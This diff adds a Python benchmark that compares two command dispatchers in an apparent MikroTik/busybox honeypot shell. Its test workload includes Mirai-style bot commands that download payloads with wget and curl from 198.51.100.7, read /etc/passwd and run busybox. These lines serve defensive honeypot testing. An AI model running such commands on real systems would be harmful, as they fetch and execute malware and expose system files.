@@ -0,0 +1,114 @@
+#!/usr/bin/env python3
+# bench_commands.py - dispatch cost of the command table vs the old if/elif chain
+#
+# Without the memo the table costs about what the chain it replaced does
+# (0.9-1.0x here: two dict lookups and one startswith() over the prefixes
+# against a dozen string compares); the memo is what makes it faster on
+# repeated bot commands. The "varied" line mixes in unique commands (more than MEMO_SIZE
+# of them), where the LRU memo keeps the hot commands cached.
+import argparse
+import random
+import time
+
+import shell
+
+def legacy_dispatch(cmd):
+    """The original handle_client chain, kept here as the baseline."""
+    if cmd.lower() in ("exit", "quit", "logout"):
+        resp = "Logout\r\n"
+        return resp.encode()
+    elif cmd == "/system resource print":
+        resp = (
+            "uptime: 1d2h3m\r\n"
+            "version: 6.48.6\r\n"
+            "cpu: MIPS 24Kc\r\n"
+            "cpu-frequency: 600MHz\r\n"
+            "free-memory: 128MiB\r\n"
+            "total-memory: 256MiB\r\n"
+        )
+    elif cmd == "/system identity print":
+        resp = 'name="MikroTik"\r\n'
+    elif cmd == "/interface print":
+        resp = (
+            "Flags: X - disabled, R - running\r\n"
+            " #   NAME       TYPE\r\n"
+            " 0   ether1     ether\r\n"
+            " 1   ether2     ether\r\n"
+        )
+    elif cmd == "/ip address print":
+        resp = "0   192.168.88.1/24    ether1\r\n"
+    elif cmd == "/system clock print":
+        resp = "time: 12:32:10\r\ndate: nov/20/2025\r\n"
+    elif cmd == "/user print":
+        resp = "0   admin    full\r\n"
+    elif cmd == "/ip route print":
+        resp = "0   0.0.0.0/0   192.168.88.1   1\r\n"
+    elif cmd == "/system routerboard print":
+        resp = (
+            "routerboard: yes\r\n"
+            "model: RB750Gr3\r\n"
+            "serial-number: A1B2C3D4E5\r\n"
+            "firmware-type: qca9531L\r\n"
+        )
+    elif cmd.lower() == "ls":
+        resp = "bin  etc  lib  usr  tmp\r\n"
+    elif cmd.lower().startswith("cat "):
+        resp = "root:x:0:0:root:/root:/bin/sh\r\n"
+    elif "wget" in cmd or "curl" in cmd:
+        resp = (
+            "Downloading...\r\n"
+            "sh: 1: ./payload: Permission denied\r\n"
+        )
+    elif cmd.strip() == "":
+        resp = ""
+    else:
+        resp = f"sh: {cmd}: command not found\r\n"
+    return resp.encode() + b"> "
+
+# a mix resembling bot traffic: mostly unknown/busybox commands, some RouterOS
+WORKLOAD = [
+    "/system resource print", "/ip route print", "/system routerboard print",
+    "ls", "LS", "cat /etc/passwd", "cat /proc/cpuinfo", "",
+    "cd /tmp || cd /var/run || cd /mnt", "wget http://198.51.100.7/bins/mips -O- > .m",
+    "curl -O http://198.51.100.7/x.sh", "/bin/busybox MIRAI", "enable", "system", "shell",
+    "sh", "uname -a", "echo -e '\\x41\\x4b\\x34\\x37'", "exit",
+]
+
+def bench(fn, cmds, repeat):
+    best = float("inf")
+    for _ in range(repeat):
+        t0 = time.perf_counter()
+        for c in cmds:
+            fn(c)
+        best = min(best, time.perf_counter() - t0)
+    return best / len(cmds) * 1e9
+
+def main():
+    p = argparse.ArgumentParser(description="Micro-benchmark of shell command dispatch.")
+    p.add_argument("--n", type=int, default=200_000, help="Commands per run (default 200000)")
+    p.add_argument("--repeat", type=int, default=5, help="Runs per dispatcher, best is reported")
+    p.add_argument("--persona", default=shell.DEFAULT_PERSONA, help="Persona file to benchmark")
+    args = p.parse_args()
+
+    table = shell.load_persona(args.persona)
+    # both dispatchers must produce the same bytes before timing means anything
+    for c in WORKLOAD:
+        assert table.dispatch(c)[0] == legacy_dispatch(c), c
+
+    rng = random.Random(1)
+    cmds = [rng.choice(WORKLOAD) for _ in range(args.n)]
+    legacy = bench(legacy_dispatch, cmds, args.repeat)
+    cold = bench(shell.load_persona(args.persona, memo_size=0).dispatch, cmds, args.repeat)
+    fast = bench(table.dispatch, cmds, args.repeat)
+    # every fourth command is one never seen before (different argument)
+    varied = [f"cd /tmp/{i}" if i % 4 == 0 else c for i, c in enumerate(cmds)]
+    legacy_varied = bench(legacy_dispatch, varied, args.repeat)
+    mixed = bench(shell.load_persona(args.persona).dispatch, varied, 1)
+    print(f"legacy if/elif chain     : {legacy:8.1f} ns/command")
+    print(f"command table (no memo)  : {cold:8.1f} ns/command  ({legacy / cold:.2f}x)")
+    print(f"command table            : {fast:8.1f} ns/command  ({legacy / fast:.2f}x)")
+    print(f"varied, legacy chain     : {legacy_varied:8.1f} ns/command")
+    print(f"varied, command table    : {mixed:8.1f} ns/command  ({legacy_varied / mixed:.2f}x)")
+
+if __name__ == "__main__":
+    main()